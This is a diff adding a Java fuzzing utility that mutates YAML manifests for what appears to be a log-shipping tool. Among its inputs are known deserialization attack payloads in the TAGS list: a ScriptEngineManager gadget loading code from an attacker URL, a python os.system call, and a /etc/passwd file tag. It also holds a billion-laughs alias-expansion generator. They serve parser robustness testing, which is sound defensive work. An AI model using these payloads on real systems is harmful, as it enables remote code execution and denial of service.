@@ -1,0 +1,184 @@
+package dev.logship.fuzz;
+
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Random;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+
+/** Edits of a manifest's YAML text: values, keys, lines, tags, anchors. Each is deterministic per Random. */
+final class TextMutations {
+    private static final Pattern KEY_VALUE = Pattern.compile("^(\\s*(?:-\\s+)?)([A-Za-z][\\w.-]*):(\\s*)(.*)$");
+    static final List<String> WRONG_VALUES = List.of("[a, b]", "{x: 1}", "12345", "true", "~", "3.14", "''",
+            "2001-12-14t21:59:43.10-05:00", "-1", "99999999999999999999999", ".inf", ".nan", "0x1F", "0o17",
+            "[]", "{}", "- nested", "\"\\u0000\"", "\"\\uD800\"", "no", "1_000", "+12", "|\n  block\n", "null");
+    static final List<String> TAGS = List.of(
+            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]",
+            "!custom value", "!custom", "!!python/object/apply:os.system [\"id\"]", "!<tag:yaml.org,2002:java.io.File> /etc/passwd",
+            "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!!str 42", "!!int notanumber", "!!float x", "!!bool maybe",
+            "!!map [1]", "!!seq {a: 1}", "!vault secret/route", "!<!> x", "!e!tag%21 x");
+
+    private TextMutations() {}
+
+    /** Line numbers (0-based) of "key: value" lines, optionally only those with a value. */
+    static List<Integer> keyLines(List<String> lines, boolean withValue) {
+        List<Integer> found = new ArrayList<>();
+        for (int i = 0; i < lines.size(); i++) {
+            Matcher m = KEY_VALUE.matcher(lines.get(i));
+            if (m.matches() && (!withValue || !m.group(4).isBlank())) {
+                found.add(i);
+            }
+        }
+        return found;
+    }
+
+    static List<String> lines(String text) {
+        return new ArrayList<>(Arrays.asList(text.split("\n", -1)));
+    }
+
+    /** Replaces the value of a random key with {@code value}; returns false when no key line exists. */
+    static boolean replaceValue(List<String> lines, Random random, String value) {
+        List<Integer> keys = keyLines(lines, false);
+        if (keys.isEmpty()) {
+            return false;
+        }
+        int line = keys.get(random.nextInt(keys.size()));
+        Matcher m = KEY_VALUE.matcher(lines.get(line));
+        m.matches();
+        lines.set(line, m.group(1) + m.group(2) + ": " + value);
+        return true;
+    }
+
+    static String wrongType(String text, Random random) {
+        List<String> lines = lines(text);
+        replaceValue(lines, random, WRONG_VALUES.get(random.nextInt(WRONG_VALUES.size())));
+        return String.join("\n", lines);
+    }
+
+    static String unknownTag(String text, Random random) {
+        List<String> lines = lines(text);
+        if (random.nextInt(5) == 0) {
+            lines.add(0, random.nextBoolean() ? "%TAG ! tag:evil.example,2000:" : "%YAML 1.1");
+            lines.add(1, "---");
+        }
+        replaceValue(lines, random, TAGS.get(random.nextInt(TAGS.size())));
+        return String.join("\n", lines);
+    }
+
+    static String duplicateKey(String text, Random random) {
+        List<String> lines = lines(text);
+        List<Integer> keys = keyLines(lines, true);
+        if (keys.isEmpty()) {
+            return text + "\nkind: Cluster\nkind: LogForwarder\n";
+        }
+        int line = keys.get(random.nextInt(keys.size()));
+        Matcher m = KEY_VALUE.matcher(lines.get(line));
+        m.matches();
+        String indent = m.group(1).replace('-', ' ');
+        lines.add(line + 1, indent + m.group(2) + ": " + (random.nextBoolean() ? m.group(4) : "other"));
+        return String.join("\n", lines);
+    }
+
+    static String deleteLine(String text, Random random) {
+        List<String> lines = lines(text);
+        List<Integer> keys = keyLines(lines, false);
+        if (!keys.isEmpty()) {
+            lines.remove((int) keys.get(random.nextInt(keys.size())));
+        }
+        return String.join("\n", lines);
+    }
+
+    static String swapKind(String text, Random random) {
+        String[] kinds = {"Cluster", "LogForwarder", "logforwarder", "Clustr", "Deployment", "", "[Cluster]"};
+        String kind = kinds[random.nextInt(kinds.length)];
+        String swapped = text.replaceFirst("(?m)^kind: .*$", "kind: " + kind);
+        return random.nextInt(4) == 0 ? swapped.replace("logship.dev/v1", random.nextBoolean() ? "logship.dev/v2" : "v1") : swapped;
+    }
+
+    static String hugeString(String text, Random random) {
+        int[] sizes = {1_000, 70_000, 300_000, 1_100_000};
+        String huge = "x".repeat(sizes[random.nextInt(sizes.length)]);
+        List<String> lines = lines(text);
+        if (random.nextInt(4) == 0) {
+            lines.add("  " + huge + ": 1");
+        } else {
+            replaceValue(lines, random, random.nextBoolean() ? huge : "\"" + huge + "\"");
+        }
+        return String.join("\n", lines);
+    }
+
+    static String deepNesting(String text, Random random) {
+        int[] depths = {20, 31, 32, 33, 200, 20_000};
+        int depth = depths[random.nextInt(depths.length)];
+        String nested = switch (random.nextInt(3)) {
+            case 0 -> "[".repeat(depth) + "]".repeat(depth);
+            case 1 -> "{a: ".repeat(depth) + "1" + "}".repeat(depth);
+            default -> "\n" + blockNesting(Math.min(depth, 400));
+        };
+        List<String> lines = lines(text);
+        replaceValue(lines, random, nested);
+        return String.join("\n", lines);
+    }
+
+    private static String blockNesting(int depth) {
+        StringBuilder out = new StringBuilder();
+        for (int i = 0; i < depth; i++) {
+            out.append(" ".repeat(i + 1)).append("k").append(i).append(":\n");
+        }
+        return out.append(" ".repeat(depth + 1)).append("leaf").toString();
+    }
+
+    static String aliases(String text, Random random) {
+        return switch (random.nextInt(5)) {
+            case 0 -> billionLaughs(random) + "\n---\n" + text;
+            case 1 -> text.replaceFirst("(?m)^spec:", "spec: &s") + "\nextra: *s\n";
+            case 2 -> text + "\n---\nx: &a [*a]\n";
+            case 3 -> text.replaceFirst("(?m)^(\\s+)(\\w+):", "$1<<: *nope\n$1$2:");
+            default -> text.replaceFirst("(?m)^metadata:", "base: &b {name: x}\nmetadata:\n  <<: *b\n  <<: *b\n_:");
+        };
+    }
+
+    static String billionLaughs(Random random) {
+        int width = 2 + random.nextInt(9);
+        int levels = 5 + random.nextInt(25);
+        StringBuilder yaml = new StringBuilder("l0: &l0 [").append(String.join(", ", java.util.Collections.nCopies(width, "lol"))).append("]\n");
+        for (int level = 1; level < levels; level++) {
+            yaml.append("l").append(level).append(": &l").append(level).append(" [")
+                    .append(String.join(", ", java.util.Collections.nCopies(width, "*l" + (level - 1)))).append("]\n");
+        }
+        return yaml.toString();
+    }
+
+    static String controlCharacters(String text, Random random) {
+        String[] odd = {"\t", "\r", "\u0085", "\u2028", "\u0007", "\uFEFF", "\uFFFF", "\uD83D\uDE00", "\u202E", "\u0000",
+                "\\", "\"", "'", ":", "#", "&", "*", "!", "|", ">", "%", "@", "`", "\r\n", "\u00A0", "\u001B[31m"};
+        StringBuilder out = new StringBuilder(text);
+        for (int i = 1 + random.nextInt(4); i > 0; i--) {
+            out.insert(random.nextInt(out.length() + 1), odd[random.nextInt(odd.length)]);
+        }
+        return out.toString();
+    }
+
+    static String indentation(String text, Random random) {
+        List<String> lines = lines(text);
+        int line = random.nextInt(lines.size());
+        String[] prefixes = {" ", "   ", "\t", ""};
+        String current = lines.get(line);
+        lines.set(line, random.nextBoolean() ? prefixes[random.nextInt(prefixes.length)] + current : current.stripLeading());
+        return String.join("\n", lines);
+    }
+
+    static String documents(String text, Random random) {
+        List<String> lines = lines(text);
+        String[] markers = {"---", "...", "--- |", "--- !custom", "---\n---", "--- []", "--- 42"};
+        lines.add(random.nextInt(lines.size() + 1), markers[random.nextInt(markers.length)]);
+        return String.join("\n", lines);
+    }
+
+    static String numbers(String text, Random random) {
+        String[] extremes = {"0", "-0", "2147483648", "-2147483649", "9223372036854775808", "1e400", "0.5", "1_0", "0b101", "010"};
+        return text.replaceAll("(?m)(cpu|memory|memoryReservation|hostPort): .*$",
+                "$1: " + extremes[random.nextInt(extremes.length)]);
+    }
+}
